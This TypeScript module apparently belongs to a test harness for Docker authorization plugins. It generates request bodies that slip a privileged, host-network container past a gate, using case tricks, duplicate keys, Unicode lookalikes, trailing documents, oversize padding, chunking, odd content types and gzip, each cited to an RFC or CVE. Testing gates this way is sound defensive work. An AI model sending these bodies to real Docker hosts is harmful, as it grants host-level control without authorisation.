import { gzipSync } from 'node:zlib';
import type { Attack, AttackHost } from './attack.ts';
import { containerAttack, isTrue, type Witness } from './container-attack.ts';
import type { RawRequest } from './raw-request.ts';

/** Makes a body 1.2 MiB, which engines do not show to a plugin. */
export const padding = 'x'.repeat(1_200_000);
export const json = (value: unknown): string => JSON.stringify(value);
export const contentType = (...types: readonly string[]) => types.map((type) => ['Content-Type', type] as const);

const why = 'a container with every privilege of the host, where the gate reads another body than the engine';
const hidden = 'a container with every privilege of the host, where the gate is shown no body';
const ofCase = 'https://github.com/golang/go/issues/14750';
const twice = 'RFC 8259, section 4';
const oversize = 'CVE-2026-34040';
const withoutBody = 'CVE-2024-41110';
const witnesses: readonly Witness[] = [
  ['HostConfig.Privileged', isTrue],
  ['HostConfig.NetworkMode', (value) => value === 'host'],
];

type Write = (parts: BodyParts) => string | Uint8Array;
type Row = readonly [name: string, title: string, reference: string, body: Write, rest?: Partial<RawRequest>];

/** Pieces of JSON of which bodies are made. */
interface BodyParts {
  /** Image and labels, without brackets and without HostConfig. */
  readonly top: string;
  /** The whole harmless HostConfig. */
  readonly safe: string;
  /** The same with every privilege. */
  readonly strong: string;
  /** A whole body that is privileged. */
  readonly privileged: string;
  readonly harmless: string;
}

const rows: readonly Row[] = [
  ['plain', 'Plainly', 'CIS Docker Benchmark, section 5', ({ privileged }) => privileged],
  [
    'lower-case',
    'with keys in lower case',
    ofCase,
    ({ top, strong }) => `{${top},"hostconfig":${strong.replace('"Privileged"', '"privileged"')}}`,
  ],
  [
    'upper-case',
    'with a key in upper case',
    ofCase,
    ({ top, strong }) => `{${top},"HostConfig":${strong.replace('"Privileged"', '"PRIVILEGED"')}}`,
  ],
  [
    'key-twice',
    'with HostConfig twice, which engines merge',
    twice,
    ({ top, safe }) => `{${top},"HostConfig":${safe},"HostConfig":{"Privileged":true}}`,
  ],
  [
    'key-twice-escaped',
    'with HostConfig twice, once with an escape',
    twice,
    ({ top, safe }) => `{${top},"HostConfig":${safe},"Host\\u0043onfig":{"Privileged":true}}`,
  ],
  [
    'key-twice-deep',
    'with Privileged twice',
    twice,
    ({ top, strong }) => `{${top},"HostConfig":{"Privileged":false,${strong.slice(1)}}`,
  ],
  ['long-s', 'with a long s (U+017F)', ofCase, ({ top, strong }) => `{${top},"Ho\u017ftConfig":${strong}}`],
  [
    'kelvin-sign',
    'with a Kelvin sign (U+212A)',
    ofCase,
    ({ top, safe }) => `{${top},"HostConfig":{${safe.slice(1, -1)},"Networ\u212aMode":"host"}}`,
  ],
  [
    'second-document',
    'with a second JSON document behind the first',
    twice,
    ({ top, harmless }) => `${harmless}{${top},"HostConfig":{"Privileged":true}}`,
  ],
  [
    'second-document-harmless',
    'with a harmless document behind it',
    twice,
    ({ privileged, harmless }) => `${privileged}${harmless}`,
  ],
  ['byte-order-mark', 'with a byte order mark', 'RFC 8259, section 8.1', ({ privileged }) => `\ufeff${privileged}`],
  [
    'number-beyond-doubles',
    'with a number beyond doubles',
    'RFC 8259, section 6',
    ({ top, strong }) => `{${top},"HostConfig":{"Memory":1e400,${strong.slice(1)}}`,
  ],
  [
    'prototype',
    'with a key __proto__ beside it',
    'CWE-1321',
    ({ top, safe, strong }) => `{${top},"__proto__":{"HostConfig":${safe}},"HostConfig":${strong}}`,
  ],
  [
    'nest',
    'with arrays 9000 deep beside it',
    'RFC 8259, section 9',
    ({ top, strong }) => `{${top},"Healthcheck":${'['.repeat(9000)}${']'.repeat(9000)},"HostConfig":${strong}}`,
  ],
  [
    'no-utf8',
    'with bytes that are no UTF-8',
    'RFC 8259, section 8.1',
    ({ top, strong }) => Buffer.from(`{${top},"Domainname":"\xff","HostConfig":${strong}}`, 'latin1'),
  ],
  [
    'text-for-truth',
    'with a text for a truth value',
    'RFC 8259, section 3',
    ({ top, strong }) => `{${top},"HostConfig":${strong.replace('"Privileged":true', '"Privileged":"true"')}}`,
  ],
  [
    'old-place',
    'in fields at the top of the body',
    ofCase,
    ({ harmless }) => `{"Privileged":true,"NetworkMode":"host",${harmless.slice(1)}`,
  ],
  ['oversize', 'in 1.2 MiB with its length', oversize, ({ privileged }) => padded(privileged)],
  ['oversize-chunked', 'in 1.2 MiB in chunks', oversize, ({ privileged }) => padded(privileged), { isChunked: true }],
  ['oversize-to-the-byte', 'in 1 MiB to the byte', oversize, ({ privileged }) => padded(privileged, 1_048_576)],
  [
    'oversize-spaces',
    'in 1.2 MiB of spaces behind it',
    oversize,
    ({ privileged }) => `${privileged}${' '.repeat(1_200_000)}`,
  ],
  [
    'oversize-spaces-before',
    'in 1.2 MiB of spaces before it, in chunks',
    oversize,
    ({ privileged }) => `${' '.repeat(1_200_000)}${privileged}`,
    { isChunked: true },
  ],
  [
    'oversize-auth',
    'in 1.2 MiB to a path that ends in /auth',
    oversize,
    ({ privileged }) => padded(privileged),
    { path: '{create}&x=/auth' },
  ],
  ['chunked', 'In chunks, which say no length', withoutBody, ({ privileged }) => privileged, { isChunked: true }],
  [
    'length-zero-chunked',
    'with a length of zero, in chunks',
    withoutBody,
    ({ privileged }) => privileged,
    { isChunked: true, headers: [...contentType('application/json'), ['Content-Length', '0']] },
  ],
  [
    'type-text-json',
    'as text/json',
    withoutBody,
    ({ privileged }) => privileged,
    { headers: contentType('text/json') },
  ],
  [
    'type-capitals',
    'as APPLICATION/JSON',
    withoutBody,
    ({ privileged }) => privileged,
    { headers: contentType('APPLICATION/JSON') },
  ],
  [
    'type-parameter',
    'with a charset',
    withoutBody,
    ({ privileged }) => privileged,
    { headers: contentType('application/json; charset=utf-8') },
  ],
  [
    'type-json-form',
    'As JSON and a form',
    withoutBody,
    ({ privileged }) => privileged,
    { headers: contentType('application/json', 'application/x-www-form-urlencoded') },
  ],
  [
    'type-form-json',
    'As a form and JSON',
    withoutBody,
    ({ privileged }) => privileged,
    { headers: contentType('application/x-www-form-urlencoded', 'application/json') },
  ],
  ['type-none', 'Without a type', withoutBody, ({ privileged }) => privileged, { headers: [] }],
  [
    'gzip',
    'Packed with gzip',
    withoutBody,
    ({ privileged }) => gzipSync(privileged),
    { headers: [...contentType('application/json'), ['Content-Encoding', 'gzip']] },
  ],
];

/** A body over a length, or of one to the byte, with what fills it in a field that does nothing. */
function padded(body: string, length?: number): string {
  const field = (text: string) => `{"Domainname":"${text}",${body.slice(1)}`;
  return field('x'.repeat(length === undefined ? padding.length : length - Buffer.byteLength(field(''))));
}

/** The same container asked for with other bodies: what one parser sees and another does not. */
export const bodyAttacks: readonly Attack[] = rows.map(([name, title, reference, body, rest]) =>
  containerAttack({
    id: `docker/body/${name}`,
    title: `A privileged container, asked for ${title[0]?.toLowerCase()}${title.slice(1)}`,
    why: reference === oversize || reference === withoutBody ? hidden : why,
    reference,
    witnesses,
    requests: (host, container) => {
      const path = `/${host.api}/containers/create?name=${container}`;
      return [{ ...rest, path: rest?.path?.replace('{create}', path) ?? path, body: body(partsOf(host)) }];
    },
  }),
);

function partsOf(host: AttackHost): BodyParts {
  const { HostConfig, ...top } = host.harmless();
  const strong = { ...HostConfig, Privileged: true };
  return {
    top: json(top).slice(1, -1),
    safe: json(HostConfig),
    strong: json(strong),
    privileged: json({ ...top, HostConfig: strong }),
    harmless: json({ ...top, HostConfig }),
  };
}

export const privilegedBody = (host: AttackHost): string => partsOf(host).privileged;
export const privilegedWitnesses = witnesses;
